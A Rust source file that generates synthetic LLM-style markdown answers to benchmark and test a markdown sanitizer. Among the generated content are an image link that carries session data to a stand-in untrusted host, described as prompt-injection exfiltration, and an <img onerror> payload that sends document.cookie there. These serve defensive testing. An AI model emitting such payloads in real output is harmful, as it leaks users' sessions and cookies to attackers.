//! A deterministic generator of LLM-style answers, for benchmarks and tests.
//!
//! The documents look like what chat models write: headings, paragraphs with emphasis and
//! inline code, bullet and numbered lists (some nested), fenced code, GFM tables, block quotes,
//! links and images to allowed hosts (`docs.example.com`, `images.example.com`) and to
//! untrusted ones, a little inline HTML (`<br>`, `<sub>`, `<kbd>`, `<details>` around
//! markdown), an occasional hostile `<img onerror>`, CJK text and emoji.
//!
//! Same size in, same bytes out, on every machine: a fixed xorshift generator, no `rand`.
//! This file is shared by the benchmarks (`bench/`) and by safemark's tests, which include it
//! with `#[path]`.

/// The default policy, with room for the largest benchmark document (4 MiB).
pub const DEFAULT_POLICY: &str = r#"{ "limits": { "max_input_bytes": 4194304 } }"#;

/// The allowlist policy the benchmarks and tests use with these documents.
pub const ALLOWLIST_POLICY: &str = r#"{
  "links": { "allow": ["https://docs.example.com/", "https://github.com/"] },
  "images": { "allow": ["https://images.example.com/"] },
  "limits": { "max_input_bytes": 4194304 }
}"#;

/// A small, fixed pseudo-random sequence (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }

    fn chance(&mut self, one_in: usize) -> bool {
        self.below(one_in) == 0
    }
}

const WORDS: &[&str] = &[
    "the",
    "request",
    "handler",
    "returns",
    "a",
    "stream",
    "of",
    "tokens",
    "and",
    "each",
    "one",
    "is",
    "rendered",
    "as",
    "it",
    "arrives",
    "so",
    "that",
    "users",
    "see",
    "progress",
    "while",
    "model",
    "thinks",
    "about",
    "answer",
    "configuration",
    "file",
    "should",
    "contain",
    "timeout",
    "value",
    "in",
    "seconds",
    "retry",
    "policy",
    "with",
    "exponential",
    "backoff",
    "you",
    "can",
    "also",
    "set",
    "environment",
    "variable",
    "before",
    "starting",
    "server",
    "cache",
    "layer",
    "keeps",
    "recent",
    "results",
    "memory",
    "for",
    "minutes",
    "database",
    "query",
    "uses",
    "index",
    "on",
    "column",
    "which",
    "makes",
    "lookup",
    "fast",
    "note",
    "this",
    "only",
    "works",
    "when",
    "version",
    "newer",
    "than",
    "three",
];

const CODE_WORDS: &[&str] = &[
    "Vec<String>",
    "Option<&str>",
    "fetch()",
    "--release",
    "a && b",
    "x < y",
    "HashMap::new()",
    "npm i",
    "$HOME",
    "<div>",
];

const CJK: &[&str] = &[
    "这个函数返回一个迭代器。",
    "設定ファイルを確認してください。",
    "캐시는 몇 분 동안 결과를 보관합니다.",
];

const EMOJI: &[&str] = &["✅", "🚀", "⚠️", "👍", "🔒", "📦"];

/// One LLM-style answer of at least `size` bytes (a little more: it ends on a whole section).
pub fn answer(size: usize) -> String {
    answer_with_seed(size, 0x5afe_4a7c)
}

/// Like [`answer`], from another seed: different documents of the same shape.
pub fn answer_with_seed(size: usize, seed: u64) -> String {
    let mut rng = Rng(seed | 1);
    let mut out = String::with_capacity(size + 4096);
    let mut section = 0usize;
    while out.len() < size {
        section += 1;
        write_section(&mut rng, &mut out, section);
    }
    out
}

fn sentence(rng: &mut Rng, out: &mut String, n: usize) {
    let words = 6 + rng.below(12);
    for i in 0..words {
        if i > 0 {
            out.push(' ');
        }
        let w = rng.pick(WORDS);
        match rng.below(40) {
            0 => {
                out.push_str("**");
                out.push_str(w);
                out.push_str("**");
            }
            1 => {
                out.push('*');
                out.push_str(w);
                out.push('*');
            }
            2 | 3 => {
                out.push('`');
                out.push_str(rng.pick(CODE_WORDS));
                out.push('`');
            }
            4 => {
                out.push_str("[the guide](https://docs.example.com/guide/");
                out.push_str(&n.to_string());
                out.push(')');
            }
            5 if rng.chance(3) => {
                out.push_str("[this post](https://blog.untrusted.example/post?id=");
                out.push_str(&n.to_string());
                out.push(')');
            }
            6 if rng.chance(4) => out.push_str(rng.pick(EMOJI)),
            7 if rng.chance(6) => out.push_str("~~old~~"),
            _ => out.push_str(w),
        }
    }
    out.push_str(if rng.chance(8) { "? " } else { ". " });
}

fn paragraph(rng: &mut Rng, out: &mut String, n: usize) {
    let sentences = 2 + rng.below(4);
    for _ in 0..sentences {
        sentence(rng, out, n);
    }
    if rng.chance(6) {
        out.push_str(rng.pick(CJK));
    }
    // A little inline HTML, as models write it.
    match rng.below(24) {
        0 => out.push_str("Line one<br>line two."),
        1 => out.push_str("Water is H<sub>2</sub>O."),
        2 => out.push_str("Press <kbd>Ctrl</kbd>+<kbd>C</kbd> to stop it."),
        _ => {}
    }
    out.truncate(out.trim_end().len());
    out.push_str("\n\n");
}

fn write_section(rng: &mut Rng, out: &mut String, n: usize) {
    out.push_str(if n % 3 == 1 { "## " } else { "### " });
    out.push_str("Step ");
    out.push_str(&n.to_string());
    out.push_str(": ");
    out.push_str(rng.pick(WORDS));
    out.push(' ');
    out.push_str(rng.pick(WORDS));
    out.push_str("\n\n");
    paragraph(rng, out, n);
    match rng.below(6) {
        0 | 1 => {
            for i in 0..(2 + rng.below(4)) {
                out.push_str("- ");
                sentence(rng, out, n + i);
                out.truncate(out.trim_end().len());
                out.push('\n');
                if rng.chance(4) {
                    out.push_str("  - ");
                    out.push_str(rng.pick(WORDS));
                    out.push_str(" `");
                    out.push_str(rng.pick(CODE_WORDS));
                    out.push_str("`\n");
                }
            }
            out.push('\n');
        }
        2 => {
            for i in 1..=(2 + rng.below(4)) {
                out.push_str(&format!("{i}. "));
                sentence(rng, out, n + i);
                out.truncate(out.trim_end().len());
                out.push('\n');
            }
            out.push('\n');
        }
        3 => {
            let lang = rng.pick(&["rust", "python", "bash", "ts"]);
            out.push_str("```");
            out.push_str(lang);
            out.push('\n');
            for i in 0..(3 + rng.below(8)) {
                out.push_str(&format!(
                    "let value_{i} = compute(&input[{i}], {}) < limit && ok; // {}\n",
                    rng.below(100),
                    rng.pick(WORDS)
                ));
            }
            out.push_str("```\n\n");
        }
        4 => {
            out.push_str("| Option | Default | Meaning |\n|---|:---:|---|\n");
            for i in 0..(2 + rng.below(4)) {
                out.push_str(&format!(
                    "| `opt_{i}` | {} | {} {} {} |\n",
                    rng.below(1000),
                    rng.pick(WORDS),
                    rng.pick(WORDS),
                    rng.pick(WORDS)
                ));
            }
            out.push('\n');
        }
        _ => {
            out.push_str("> **Note:** ");
            sentence(rng, out, n);
            out.truncate(out.trim_end().len());
            out.push_str("\n\n");
        }
    }
    paragraph(rng, out, n + 1);
    if n % 5 == 0 {
        out.push_str(&format!(
            "![Diagram {n}](https://images.example.com/diagram-{n}.png \"diagram\")\n\n"
        ));
    }
    if n % 7 == 0 {
        // The exfiltration an injected prompt asks for: an image to an untrusted host.
        out.push_str(&format!(
            "![loading](https://collect.untrusted.example/p.png?d=session-{n})\n\n"
        ));
    }
    if n % 8 == 0 {
        out.push_str("<details>\n<summary>Show the full output</summary>\n\n");
        paragraph(rng, out, n);
        out.push_str("</details>\n\n");
    }
    if n % 13 == 0 {
        out.push_str("<img src=x onerror=\"fetch('https://collect.untrusted.example/?c='+document.cookie)\">\n\n");
    }
    if n % 4 == 0 {
        out.push_str("See https://docs.example.com/reference for the rest.\n\n");
    }
}
